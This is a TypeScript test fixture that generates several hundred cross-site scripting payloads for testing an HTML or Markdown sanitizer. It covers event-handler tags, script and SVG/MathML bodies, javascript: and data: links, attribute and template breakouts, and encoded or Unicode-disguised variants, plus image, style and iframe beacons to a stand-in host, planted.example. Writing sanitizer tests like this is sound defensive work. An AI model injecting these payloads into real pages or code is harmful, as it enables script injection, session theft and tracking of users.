// SPDX-License-Identifier: Apache-2.0
/**
 * Words that would run something, or become an element, where text were taken for markup. Every one of them names the page's own alarm
 * (`planted`), and every element in them carries `data-planted`: a test sees both. Made from lists, so that a new way is one line.
 */

const CALL = "planted()";

/** Elements that ask for something by themselves, and the attribute by which it would be heard. */
const TAGS = [
  ["img", "src=x"],
  ["svg", ""],
  ["video", "src=x"],
  ["audio", "src=x"],
  ["body", ""],
  ["iframe", "src=about:blank"],
  ["object", "data=x"],
  ["embed", "src=x"],
  ["input", "autofocus"],
  ["details", "open"],
  ["marquee", ""],
  ["select", "autofocus"],
  ["textarea", "autofocus"],
  ["link", "rel=stylesheet href=x"],
  ["style", ""],
  ["math", ""],
] as const;
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover"] as const;

/** Ways to write the same thing so that a filter of words does not see it. */
const WRITINGS: readonly ((tag: string, more: string, handler: string) => string)[] = [
  (tag, more, handler) => `<${tag} data-planted ${more} ${handler}=${CALL}>`,
  (tag, more, handler) => `<${tag.toUpperCase()} data-planted ${more} ${handler.toUpperCase()}="${CALL}"/>`,
  (tag, more, handler) => `"><${tag}\n\t${handler}\n=\n'${CALL}' ${more}\fdata-planted>`,
];

/** Elements that hold a program or another page. */
const BODIES = [
  `<script data-planted>${CALL}</script>`,
  `<script data-planted src="data:text/javascript,${CALL}"></script>`,
  `<SCRIPT data-planted>//<!--\n${CALL}\n//--></SCRIPT>`,
  `<svg data-planted><script>${CALL}</script></svg>`,
  `<svg data-planted><animate attributeName=href values="javascript:${CALL}" /><a><text>x</text></a></svg>`,
  `<svg data-planted><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<math data-planted><maction actiontype="statusline" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<math data-planted><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<template data-planted><img src=x onerror=${CALL}></template>`,
  `<template data-planted shadowrootmode="open"><script>${CALL}</script></template>`,
  `<noscript data-planted><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<iframe data-planted srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<base data-planted href="javascript:${CALL}//">`,
  `<meta data-planted http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<form data-planted action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<table data-planted background="javascript:${CALL}"><tr><td>x</table>`,
  `<style data-planted>@keyframes p{}*{animation:p 1s}</style>`,
  `<style data-planted>@import 'data:text/css,*{display:none}';</style>`,
  `<div data-planted style="background:url(javascript:${CALL})">x</div>`,
  `<div data-planted style="width:expression(${CALL})">x</div>`,
  `<xss data-planted contenteditable autofocus onfocus=${CALL}>x</xss>`,
  `<!--><img data-planted src=x onerror=${CALL}>-->`,
  `<![CDATA[><img data-planted src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><x:script data-planted xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
] as const;

/** Elements that would tell somebody else, without a program: by a picture, a sheet of style, a hint, a form. */
export const MARKER_HOST = "planted.example";
const CALLS_OUT = [
  `<img data-planted src="https://${MARKER_HOST}/a">`,
  `<link data-planted rel=stylesheet href="https://${MARKER_HOST}/b">`,
  `<link data-planted rel=prefetch href="//${MARKER_HOST}/c">`,
  `<div data-planted style="background:url(//${MARKER_HOST}/d)">x</div>`,
  `<svg data-planted><image href="https://${MARKER_HOST}/e" /></svg>`,
  `<video data-planted poster="//${MARKER_HOST}/f"></video>`,
  `<iframe data-planted src="https://${MARKER_HOST}/g"></iframe>`,
  `![x](https://${MARKER_HOST}/h)`,
  `<meta data-planted http-equiv=refresh content="0;url=https://${MARKER_HOST}/i">`,
  `<style data-planted>*{background:url(//${MARKER_HOST}/j)}</style>`,
] as const;

/** Addresses that would run, as they could stand in an attribute or a link made of text. */
const ADDRESSES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  " javascript:",
  "vbscript:",
  "data:text/html,",
];
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `<a data-planted href="${address}${CALL}">x</a>`,
  (address) => `[x](${address}${CALL})`,
  (address) => `![x](${address}${CALL})`,
  (address) => `${address}${CALL}`,
];

/** What looks like an end of where it stands: of an attribute, of an element, of a script, of a template of some language. */
const ESCAPES = [
  `"'><img data-planted src=x onerror=${CALL}>`,
  `' autofocus onfocus=${CALL} x='`,
  `" onmouseover="${CALL}" data-planted="`,
  `</textarea><img data-planted src=x onerror=${CALL}>`,
  `</title><script data-planted>${CALL}</script>`,
  `</option></select><img data-planted src=x onerror=${CALL}>`,
  `</script><script data-planted>${CALL}</script>`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `');${CALL};//`,
  `{"__html":"<img data-planted src=x onerror=${CALL}>"}`,
  `[object Object]<img data-planted src=x onerror=${CALL}>`,
] as const;

/** The same letters in another shape, or turned round: a reader that normalises must not be fooled. */
const SHAPES: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll(">", "&#x3e;"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "\u00ab").replaceAll(">", "\u00bb"),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u2066${text}\u2069`,
  (text) => [...text].join("\u200b"),
  (text) => text.replace("<", "<\u0000"),
  (text) => `\ufeff${text}`,
  (text) => btoa(text),
];
const SHAPED = [BODIES[0], BODIES[3], ESCAPES[0], `<img data-planted src=x onerror=${CALL}>`] as const;

/** At least 300, each once. */
export function hostileMarkup(): readonly string[] {
  const written = TAGS.flatMap(([tag, more]) =>
    HANDLERS.flatMap((handler) => WRITINGS.map((write) => write(tag, more, handler))),
  );
  const linked = ADDRESSES.flatMap((address) => LINKS.map((link) => link(address)));
  const shaped = SHAPED.flatMap((text) => SHAPES.map((shape) => shape(text)));
  return [...new Set([...written, ...BODIES, ...CALLS_OUT, ...linked, ...ESCAPES, ...shaped])];
}
